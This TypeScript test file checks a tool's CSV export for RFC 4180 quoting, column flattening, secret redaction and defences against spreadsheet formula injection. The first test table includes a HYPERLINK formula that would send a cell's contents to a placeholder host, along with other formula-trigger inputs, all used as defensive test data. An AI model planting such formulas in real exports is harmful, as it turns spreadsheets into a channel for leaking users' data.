import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvField, renderCsv } from '../../src/output/csv.ts';

describe('A4: a cell that a spreadsheet would run', () => {
  test.each([
    ['=HYPERLINK("http://x/?"&A1)', `"'=HYPERLINK(""http://x/?""&A1)"`],
    ['-1+1', `"'-1+1"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['+8613800000000', `"'+8613800000000"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    ['＝1+1', `"'＝1+1"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠x', `"'＠x"`],
    ['-', `"'-"`],
  ])('%j is prefixed and quoted', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  test('numbers stay numbers', () => {
    expect([csvField(-5), csvField(0), csvField(1234), csvField('-12.34')]).toEqual(['-5', '0', '1234', '-12.34']);
  });

  test('is left alone with --raw', () => {
    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
    expect(csvField('=1,1', { raw: true })).toBe('"=1,1"');
  });

  test('no text begins a formula once it is parsed again', () => {
    fc.assert(
      fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '－', 'a', ''), fc.string(), (first, rest) => {
        const parsed = parseCsv(`${csvField(first + rest)}\r\n`)[0]?.[0] ?? '';
        expect(/^[=+@\t\r\n＝＋－＠]/.test(parsed)).toBe(false);
        if (parsed.startsWith('-')) expect(Number.isNaN(Number(parsed))).toBe(false);
        expect(parsed === first + rest || parsed === `'${first}${rest}`).toBe(true);
      }),
    );
  });
});

describe('renderCsv', () => {
  test('quotes as RFC 4180 says, and ends every line with CRLF', () => {
    expect(renderCsv([{ a: 'x,y', b: 'say "hi"', c: 'two\nlines', d: '' }])).toBe(
      'a,b,c,d\r\n"x,y","say ""hi""","two\nlines",\r\n',
    );
  });

  test('flattens nested objects, keeps arrays as JSON, and joins the columns of all rows', () => {
    expect(renderCsv([{ amount: { total: 1, payer: { total: 2 } } }, { ok: true, list: [1, 'a'], none: null }])).toBe(
      'amount.total,amount.payer.total,ok,list,none\r\n1,2,,,\r\n,,true,"[1,""a""]",\r\n',
    );
  });

  test('takes the declared columns, in their order; a field that is an object stands for its members', () => {
    const rows = [{ no: 'T1', amount: { total: 1, currency: 'CNY' }, secret: 'x' }];
    expect(renderCsv(rows, { fields: ['amount', 'no', 'absent'] })).toBe(
      'amount.total,amount.currency,no,absent\r\n1,CNY,T1,\r\n',
    );
  });

  test('takes all columns where the declared ones name nothing of the data', () => {
    expect(renderCsv([{ no: 'T1' }], { fields: ['number'] })).toBe('no\r\nT1\r\n');
  });

  test('heads an empty list with the declared columns', () => {
    expect(renderCsv([], { fields: ['no', 'state'] })).toBe('no,state\r\n');
    expect(renderCsv([])).toBe('');
  });

  test('puts rows that are no objects in one column', () => {
    expect(renderCsv(['a', 1, null])).toBe('value\r\na\r\n1\r\n\r\n');
  });

  test('shows a value as its JSON does, so that a secret stays redacted', () => {
    const secret = { hidden: 'k3y', toJSON: () => '[redacted]' };
    expect(renderCsv([{ key: secret }])).toBe('key\r\n[redacted]\r\n');
  });

  test('any rows read back as they were', () => {
    const cell = fc.string().filter((text) => !/^[=+\-@\t\r\n＝＋－＠]/.test(text));
    fc.assert(
      fc.property(fc.array(fc.record({ a: cell, b: cell }), { minLength: 1 }), (rows) => {
        expect(parseCsv(renderCsv(rows))).toEqual([['a', 'b'], ...rows.map((row) => [row.a, row.b])]);
      }),
    );
  });
});

/** A reader of RFC 4180 of the test's own. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let index = 0;
  while (index < text.length) {
    let field = '';
    if (text[index] === '"') {
      index += 1;
      while (!(text[index] === '"' && text[index + 1] !== '"')) {
        if (text[index] === '"') index += 1;
        field += text[index] ?? '';
        index += 1;
      }
      index += 1;
    } else {
      while (index < text.length && text[index] !== ',' && !text.startsWith('\r\n', index)) {
        field += text[index] ?? '';
        index += 1;
      }
    }
    row.push(field);
    if (text[index] === ',') {
      index += 1;
      continue;
    }
    index += 2;
    rows.push(row);
    row = [];
  }
  return rows;
}
